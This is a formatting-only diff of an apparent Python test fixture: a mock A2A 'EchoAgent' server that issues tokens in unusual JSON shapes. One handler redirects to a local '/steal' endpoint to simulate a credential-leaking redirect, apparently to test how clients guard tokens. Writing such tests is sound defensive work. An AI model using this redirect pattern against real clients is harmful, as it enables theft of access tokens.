@@ -44,8 +44,18 @@ Style = Literal["json", "duplicate", "nested", "form", "short"]
 Mode = Literal["bearer+key", "oauth2"]
 
 _ORDINARY = frozenset(
-    {"host", "accept", "accept-encoding", "user-agent", "content-length", "content-type", "connection",
-     "a2a-version", "a2a-extensions", "x-a2a-extensions"}
+    {
+        "host",
+        "accept",
+        "accept-encoding",
+        "user-agent",
+        "content-length",
+        "content-type",
+        "connection",
+        "a2a-version",
+        "a2a-extensions",
+        "x-a2a-extensions",
+    }
 )
 
 
@@ -206,12 +216,16 @@ class EchoAgent:
         if self.style == "duplicate":
             body = f'{{"access_token":"{first}","access_token":"{second}","token_type":"Bearer",{echo}}}'
         elif self.style == "nested":
-            body = (f'{{"access_token":"{first}","token_type":"Bearer","expires_in":3600,'
-                    f'"data":{{"refresh_token":"{second}","deeper":[{{"id_token":"{second}x"}}]}},{echo}}}')
+            body = (
+                f'{{"access_token":"{first}","token_type":"Bearer","expires_in":3600,'
+                f'"data":{{"refresh_token":"{second}","deeper":[{{"id_token":"{second}x"}}]}},{echo}}}'
+            )
             self.issued.append(f"{second}x")
         else:
-            body = (f'{{"access_token":"{first}","token_type":"Bearer","expires_in":3600,'
-                    f'"refresh_token":"{second}",{echo}}}')
+            body = (
+                f'{{"access_token":"{first}","token_type":"Bearer","expires_in":3600,'
+                f'"refresh_token":"{second}",{echo}}}'
+            )
         return body.encode(), "application/json"
 
 
@@ -239,9 +253,7 @@ class _Handler(BaseHTTPRequestHandler):
         length = int(self.headers.get("content-length") or 0)
         return self.rfile.read(length) if length else b""
 
-    def _send(
-        self, status: int, body: bytes, kind: str = "application/json", extra: _Pairs = ()
-    ) -> None:
+    def _send(self, status: int, body: bytes, kind: str = "application/json", extra: _Pairs = ()) -> None:
         self.send_response(status)
         self.send_header("Content-Type", kind)
         self.send_header("Content-Length", str(len(body)))
@@ -260,7 +272,7 @@ class _Handler(BaseHTTPRequestHandler):
             location = f"{self.agent.elsewhere}/steal?{where}&{encoded}"
             self._send(302, b"", extra=(("Location", location),))
         else:
-            self._send(404, ('{' + self.agent.echo_members() + "}").encode())
+            self._send(404, ("{" + self.agent.echo_members() + "}").encode())
 
     def do_POST(self) -> None:
         body = self._listen()
@@ -287,8 +299,10 @@ def echo_agent(mode: Mode, style: Style = "json") -> Iterator[EchoAgent]:
     server.daemon_threads = other.daemon_threads = True
     agent.base = f"http://127.0.0.1:{server.server_address[1]}"
     agent.elsewhere = f"http://127.0.0.1:{other.server_address[1]}"
-    threads = [threading.Thread(target=s.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
-               for s in (server, other)]
+    threads = [
+        threading.Thread(target=s.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
+        for s in (server, other)
+    ]
     for thread in threads:
         thread.start()
     try:
